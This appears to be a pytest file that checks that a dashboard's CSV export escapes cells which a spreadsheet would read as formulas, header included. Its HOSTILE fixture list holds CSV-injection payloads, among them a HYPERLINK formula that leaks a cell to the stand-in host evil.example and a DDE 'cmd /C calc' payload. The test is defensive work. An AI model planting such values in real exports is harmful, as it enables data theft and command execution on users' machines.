"""Issue 21, item 11: no CSV cell the app writes is a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from domain.dashboard import Chart, Column, Table, to_csv
from domain.spreadsheet import csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_text(text: str) -> None:
    table = Table(
        name="matters",
        title="t",
        columns=(Column("key", "Key", "text"), Column("cases", "Cases", "count")),
        rows=((text, 3), ("IND-CONSTRUCTION", -1)),
        chart=Chart("c", "key", ("cases",)),
    )
    rows = list(csv.reader(io.StringIO(to_csv(table))))
    assert rows[1] == ["'" + text, "3"]
    assert rows[2] == ["IND-CONSTRUCTION", "-1"]  # numbers stay numbers, negative ones too


def test_the_header_is_guarded_too() -> None:
    assert csv_text(["=x", "ok"], []).splitlines() == ["'=x,ok"]
